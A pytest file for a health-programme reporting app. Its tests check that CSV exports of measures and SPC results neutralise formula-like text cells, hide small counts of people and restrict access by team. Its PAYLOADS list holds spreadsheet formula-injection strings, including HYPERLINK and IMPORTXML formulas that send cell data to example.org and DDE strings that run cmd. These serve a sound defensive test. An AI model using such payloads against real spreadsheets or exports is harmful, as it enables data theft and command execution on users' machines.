"""CSV export of measure values and SPC results: for a team or the programme, disclosure-controlled, and with
every text cell that a spreadsheet would run as a formula neutralised (reliability.md §2.4)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest

from tests.framework.factories import make_domain, make_measure, months
from tests.helpers import share_with_programme
from whatmatters.imports.safe import safe_cell
from whatmatters.reports.exports import COLUMNS, write_csv
from whatmatters.teams.roles import Role

# The worst things a team name, a measure name or a unit can start with.
PAYLOADS = [
    '=HYPERLINK("http://example.org/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("http://example.org/?", A1), "//a")',
    "-2+3=DDE()",
]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_cell_that_starts_like_a_formula_gets_a_leading_quote(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("safe", ["Team A", "Median wait in days", "50%", "", "3 weeks", "A=B", "'=1", "-3"])
def test_other_text_is_left_as_it_is(safe: str) -> None:
    assert safe_cell(safe) == safe


def test_every_text_cell_of_an_export_is_neutralised_and_numbers_survive(programme: Any) -> None:
    from whatmatters.framework.models import Value

    team = programme.team_a
    team.name = PAYLOADS[0]
    team.save()
    domain = make_domain(team)
    for n, payload in enumerate(PAYLOADS[1:]):
        measure = make_measure(team, domain, f"m{n}", name=payload, unit=payload[:40], chart="run")
        for period, value in zip(months(dt.date(2024, 1, 1), 3), [-5.5, 0.0, 12.25], strict=True):
            Value.objects.create(measure=measure, period=period, value=value)

    everything = rows(write_csv([team]))
    exported = [r for r in everything if r["value"]]
    assert len(exported) == 3 * (len(PAYLOADS) - 1)
    dangerous = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%")
    for row in everything:
        for name, kind in COLUMNS:
            if kind == "text":
                assert not row[name].startswith(dangerous), (name, row[name])
        assert row["team"] == "'" + PAYLOADS[0]
        assert row["measure_name"].startswith("'")
    # Numeric columns are left alone, so negative numbers are still numbers.
    assert [r["value"] for r in exported[:3]] == ["-5.5", "0", "12.25"]


def test_the_export_has_the_values_and_the_spc_results(report_world: dict[str, Any]) -> None:
    exported = rows(write_csv([report_world["team"]]))
    assert list(exported[0]) == [name for name, _ in COLUMNS]
    wait = [r for r in exported if r["measure_code"] == "wait-days"]
    # Every month from the first value up to the last complete month: months with no value stay empty.
    assert [r["period"] for r in wait[:3]] == ["2023-01-01", "2023-02-01", "2023-03-01"]
    assert all(r["value"] == "" for r in wait[24:])
    last = wait[23]
    assert last["period"] == "2024-12-01"
    assert last["value"] == "19"
    assert last["target"] == "30"
    assert last["variation"] == "Improving: a change unlikely to be chance"
    # 12 points since the limits were recalculated: early days, so the target is not judged yet (MDC).
    assert last["assurance"] == ""
    assert float(last["lower_limit"]) < float(last["centre"]) < float(last["upper_limit"])
    assert last["point"] in {"No significant change", "Improving: a change unlikely to be chance"}


def test_counts_of_people_in_the_export_are_rounded_or_hidden(report_world: dict[str, Any]) -> None:
    exported = rows(write_csv([report_world["team"]]))
    admissions = [r["value"] for r in exported if r["measure_code"] == "admissions"][:24]
    # 23 4 17 0 12, four times, then 9 11 13 6.
    assert admissions == ["25", "*", "15", "0", "10"] * 4 + ["10", "10", "15", "*"]
    carers = [r for r in exported if r["measure_code"] == "carers-offered"]
    small = next(r for r in carers if r["period"] == "2024-09-01")  # 3 out of 5
    assert (small["numerator"], small["denominator"], small["value"]) == ("*", "*", "*")
    # A measure with a small month has no SPC columns at all: a p chart's limits would give its
    # denominators away.
    for r in carers:
        assert r["centre"] == r["lower_limit"] == r["upper_limit"] == r["variation"] == ""
    seen = [r for r in exported if r["measure_code"] == "seen-in-2-weeks"]
    assert seen[0]["numerator"] == "40" and seen[0]["denominator"] == "80" and seen[0]["value"] == "50"


def test_a_team_export_is_a_download_with_only_that_teams_measures(
    report_world: dict[str, Any], people: dict[str, Any], client_for: Any, programme: Any
) -> None:
    make_measure(programme.team_b, make_domain(programme.team_b), "team-b-only", name="Only in team B")
    response = client_for(people[Role.STAFF]).get("/teams/team-a/export/measures.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="what-matters-team-a-measures-')
    assert response["Cache-Control"] == "private, no-store"
    codes = {r["measure_code"] for r in rows(response.content.decode())}
    assert codes == {"wait-days", "seen-in-2-weeks", "carers-offered", "admissions"}


def test_the_programme_export_has_every_active_team(
    report_world: dict[str, Any], people: dict[str, Any], client_for: Any, programme: Any
) -> None:
    from whatmatters.framework.models import Value

    b = make_measure(programme.team_b, make_domain(programme.team_b), "team-b-only", name="Only in team B")
    Value.objects.create(measure=b, period=dt.date(2024, 1, 1), value=3)
    share_with_programme(b, report_world["wait"])
    response = client_for(people[Role.FACULTY]).get("/programme/export/measures.csv")
    assert response.status_code == 200
    exported = rows(response.content.decode())
    assert {r["team"] for r in exported} == {"Team A", "Team B"}
    assert {r["measure_code"] for r in exported} == {"team-b-only", "wait-days"}  # only shared measures


def test_people_outside_a_team_cannot_export_its_measures(
    report_world: dict[str, Any], people: dict[str, Any], client_for: Any
) -> None:
    assert client_for(people["team_b_lead"]).get("/teams/team-a/export/measures.csv").status_code == 404
    response = client_for(None).get("/teams/team-a/export/measures.csv")
    assert response.status_code == 302 and "/sign-in/" in response["Location"]
